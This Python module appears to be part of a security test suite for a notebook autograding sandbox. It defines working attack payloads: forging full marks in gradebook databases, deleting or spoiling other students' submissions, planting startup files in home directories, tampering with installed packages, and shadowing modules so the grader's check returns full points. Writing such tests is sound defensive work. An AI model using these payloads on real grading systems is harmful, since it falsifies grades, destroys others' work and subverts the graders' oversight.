"""Changing what belongs to others: the gradebook, submissions, settings, programs."""

from __future__ import annotations

from .base import ANY, NOT_STARTED, Attack, extra_cell, files, handed_in, looting
from .tools import ESCAPE, HUNT, PRIZES

CHANGE_ALL = HUNT + ESCAPE

# Replaces `lrlab` or the kernel from the submitted folder, where Python looks first.
OWN_CHECK = (
    f"{PRIZES}\nimport builtins\ndef check(exercise, *answers):\n    return POINTS[exercise]\n"
    "builtins.check = check\n"
)
OWN_LAUNCHER = f"""{PRIZES}
import sys
sys.path = [each for each in sys.path if each not in ("", ".")]
from ipykernel.ipkernel import IPythonKernel
execute = IPythonKernel.do_execute
async def do_execute(self, code, *a, **k):
    for exercise, points in POINTS.items():
        if code.startswith(f'check("{{exercise}}"'):
            code = str(points)
    return await execute(self, code, *a, **k)
IPythonKernel.do_execute = do_execute
from ipykernel import kernelapp
kernelapp.launch_new_instance()
"""
OWN_TORCH = f"""{PRIZES}
import builtins, importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
paths = sys.path[:]
sys.path = [each for each in paths if each and os.path.abspath(each) != here]
del sys.modules["torch"]
importlib.invalidate_caches()
import torch
sys.path = paths
import lrlab.checking.checks
lrlab.checking.checks.check = lambda exercise, *a: POINTS[exercise]
import lrlab
lrlab.check = lrlab.checking.checks.check
"""


def _first(name: str, tries: str, source: str) -> Attack:
    return Attack(name, tries, files(extra_cell(CHANGE_ALL + source)), allowed=ANY)


def _brings(name: str, tries: str, **others: bytes) -> Attack:
    return Attack(name, tries, files(**others), allowed=NOT_STARTED)


ATTACKS = [
    _first(
        "writes-gradebook",
        "writes full marks into every gradebook that it finds",
        """
import sqlite3
for path in files_below(wanted=lambda name: name.endswith(".db")):
    for command in ("update grade set manual_score = 4, extra_credit = 5",
                    "create trigger t after update on grade begin "
                    "update grade set manual_score = 4 where id = new.id; end"):
        try:
            with sqlite3.connect(path) as database:
                database.execute(command)
        except sqlite3.Error as error:
            print(path, error)
""",
    ),
    _first(
        "edits-submissions",
        "makes the submissions of all others unreadable",
        """
for path in files_below(wanted="steplr.ipynb".__eq__):
    if "submitted" in path.parts:
        try:
            path.write_text("spoilt by " + MARK)
        except OSError:
            pass
""",
    ),
    _first(
        "deletes-submissions",
        "deletes the submissions and the autograded notebooks of all others",
        """
import shutil
for path in files_below(wanted="steplr.ipynb".__eq__):
    if {"submitted", "autograded", "solutions", "feedback"} & set(path.parts):
        shutil.rmtree(path.parent, ignore_errors=True)
""",
    ),
    _first(
        "edits-settings",
        "appends code to every nbgrader_config.py, Makefile and notes.txt",
        """
wanted = {"nbgrader_config.py", "Makefile", "notes.txt", "requirements.txt", "pyproject.toml"}
for path in files_below(wanted=wanted.__contains__):
    try:
        with open(path, "a") as file:
            file.write("\\n# " + MARK)
    except OSError:
        pass
""",
    ),
    _first(
        "ipython-startup",
        "plants files that IPython, Python, the shell and Jupyter run at their start",
        """
for name in (".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", ".bashrc",
             ".local/lib/python3.11/site-packages/usercustomize.py", ".pythonrc.py", ".ssh/x"):
    for home in {Path.home(), Path(os.environ.get("HOME", "/")), Path("/root")}:
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            with open(home / name, "a") as file:
                file.write("# " + MARK)
            (home / (MARK + "-startup")).touch()
        except OSError:
            pass
""",
    ),
    Attack(
        "writes-everywhere",
        "creates a file in every folder that lets it, and says where outside its own it could",
        looting(
            CHANGE_ALL
            + """
end, own = time.monotonic() + 10, ("/scratch", "/dev/shm", "/proc", "/sys")
places = []
for folder, folders, _ in os.walk("/"):
    if folder in ("/proc", "/sys") or time.monotonic() > end:
        folders.clear()
        continue
    try:
        Path(folder, MARK + "-file").write_text(MARK)
        places.append(folder)
    except OSError:
        pass
strange = [place for place in places if not place.startswith(own)]
loot = (ESC + "wrote in " + ", ".join(strange[:5])) if strange else "wrote in my own only"
"""
        ),
        allowed=ANY,
    ),
    _first(
        "edits-programs",
        "changes lrlab, torch, the runner and the interpreter for all submissions after it",
        """
import sys, torch, lrlab
roots = [Path(lrlab.__file__).parent, Path(sys.executable).parent, Path("/course"),
         Path(torch.__file__).parent / "optim", Path("/proc/self/exe")]
for root in roots:
    for path in [root, *(root.glob("*") if root.is_dir() else [])]:
        try:
            with open(path, "ab") as file:
                file.write(b"\\n# " + MARK.encode())
        except OSError:
            pass
""",
    ),
    _brings(
        "brings-torch", "brings its own torch.py beside the notebook", torch_py=OWN_TORCH.encode()
    ),
    _brings(
        "brings-launcher",
        "brings its own ipykernel_launcher.py",
        ipykernel_launcher_py=OWN_LAUNCHER.encode(),
    ),
    _brings(
        "brings-sitecustomize",
        "brings sitecustomize.py, usercustomize.py and conftest.py",
        sitecustomize_py=OWN_CHECK.encode(),
        usercustomize_py=OWN_CHECK.encode(),
        conftest_py=OWN_CHECK.encode(),
    ),
    _brings(
        "brings-settings",
        "brings its own nbgrader_config.py that runs code",
        nbgrader_config_py=b"import os\nos.kill(os.getpid(), 9)\n",
    ),
    Attack(
        "brings-lrlab",
        "brings its own package lrlab and a checks.json",
        {
            **files(),
            "lrlab/__init__.py": (
                f"{PRIZES}\ndef check(exercise, *answers):\n    return POINTS[exercise]\n"
                "def __getattr__(name):\n    return lambda *a, **k: None\n"
            ).encode(),
            "checks.json": b"{}",
            "steplr (copy).ipynb": handed_in,
        },
        allowed=NOT_STARTED,
    ),
]
